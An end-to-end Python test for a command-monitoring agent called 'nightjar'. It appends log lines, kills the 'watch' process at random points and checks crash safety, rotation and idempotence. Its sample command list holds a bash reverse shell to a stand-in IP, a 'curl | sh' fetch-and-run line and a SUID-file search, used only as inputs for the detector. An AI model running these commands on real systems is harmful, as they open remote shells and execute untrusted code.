#!/usr/bin/env python3
"""The agent end to end: `nightjar watch` follows a growing log, keeps every
event in the spool, judges it (rules only here: the model is not what is
tested) and delivers verdicts to a JSON-lines sink, while it is killed with
SIGKILL at random points.

  1. crash safety: 20 rounds; in each, 50 more lines are appended to the
     log while watch runs, and watch is SIGKILLed after a random delay
     (seeded).  Then one `--once` run finishes the backlog.  Every one of
     the 1,000 lines must have exactly one event and one verdict in the
     spool, and the sink must hold every verdict at least once (a verdict
     sent again after a crash is marked "redelivery": true).
  2. rotation: the log is moved away and a new one started; watch picks up
     the new file's lines without losing or repeating the old one's.
  3. idempotence: a second `--once` run over the same input adds nothing.

Prints one line per check and "N passed, M failed"; exits 1 on failure.
Random delays here are the crash points, not waits for a condition: every
check runs after the process it depends on has exited.
"""
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import njtest  # noqa: E402
from njtest import BIN, check  # noqa: E402


COMMANDS = ["git status", "ls -la /tmp", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "make -j2",
            "find / -perm -4000 -type f", "curl -fsSL http://203.0.113.9/i.sh | sh", "docker ps", "uptime"]


def spool_counts(db):
    c = sqlite3.connect(db)
    try:
        ev = c.execute("select count(*) from events").fetchone()[0]
        ids = {r[0] for r in c.execute("select event_id from events")}
        vt = c.execute("select count(*) from verdicts").fetchone()[0]
        judged = c.execute("select count(distinct v.seq) from verdicts v join events e on e.seq = v.seq").fetchone()[0]
        return ev, ids, vt, judged
    finally:
        c.close()


def sink_ids(path):
    seen, redelivered = {}, 0
    if not os.path.exists(path):
        return seen, 0
    for line in open(path):
        v = json.loads(line)
        seen[v["event_id"]] = seen.get(v["event_id"], 0) + 1
        redelivered += bool(v.get("redelivery"))
    return seen, redelivered


def watch(tmp, log, once=False):
    cmd = [BIN, "watch", "--no-model", "--spool", os.path.join(tmp, "spool.db"), "--source", "cmdline:" + log,
           "--sink", "jsonl:" + os.path.join(tmp, "verdicts.jsonl")]
    if once:
        cmd.append("--once")
    return subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=open(os.path.join(tmp, "watch.err"), "a"))


def main():
    tmp = tempfile.mkdtemp(prefix="nj-watch-")
    rnd = random.Random(20261207)
    log = os.path.join(tmp, "commands.log")
    open(log, "w").close()
    n = 0
    try:
        for rnd_i in range(20):
            p = watch(tmp, log)
            with open(log, "a") as f:
                for _ in range(50):
                    n += 1
                    f.write(f"{COMMANDS[n % len(COMMANDS)]} # line {n}\n")
                    if n % 10 == 0:
                        f.flush()
            time.sleep(rnd.uniform(0.0, 0.4))   # the crash point
            p.send_signal(signal.SIGKILL)
            p.wait()
        p = watch(tmp, log, once=True)
        rc = p.wait()
        check("watch --once finishes the backlog after 20 kills", rc == 0, open(os.path.join(tmp, "watch.err")).read()[-500:])
        ev, ids, vt, judged = spool_counts(os.path.join(tmp, "spool.db"))
        want = {f"cmdline:{i}" for i in range(1, n + 1)}
        check("every line has exactly one event in the spool", ev == n and ids == want, f"{ev} events for {n} lines")
        check("every event has exactly one verdict", vt == n and judged == n, f"{vt} verdicts, {judged} judged")
        seen, redelivered = sink_ids(os.path.join(tmp, "verdicts.jsonl"))
        check("the sink received every verdict at least once", set(seen) == want, f"{len(seen)} of {n}")
        dup = sum(c - 1 for c in seen.values())
        print(f"     ({dup} repeated deliveries, {redelivered} marked redelivery)")
        check("every repeated delivery is marked as a redelivery", redelivered >= dup, f"{dup} repeats, {redelivered} marked")

        # idempotence: the same input again adds nothing
        rc = watch(tmp, log, once=True).wait()
        ev2, _, vt2, _ = spool_counts(os.path.join(tmp, "spool.db"))
        check("a second run over the same input adds nothing", rc == 0 and ev2 == n and vt2 == n, f"{ev2}, {vt2}")

        # rotation: move the log away, start a new one with 10 lines
        os.rename(log, log + ".1")
        with open(log, "w") as f:
            for i in range(10):
                f.write(f"uptime # rotated {i}\n")
        rc = watch(tmp, log, once=True).wait()
        ev3, ids3, vt3, _ = spool_counts(os.path.join(tmp, "spool.db"))
        check("after a rotation the new file's lines are read from its start", rc == 0 and ev3 == n + 10 and vt3 == n + 10,
              f"{ev3} events, {vt3} verdicts")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    njtest.finish()


if __name__ == "__main__":
    main()
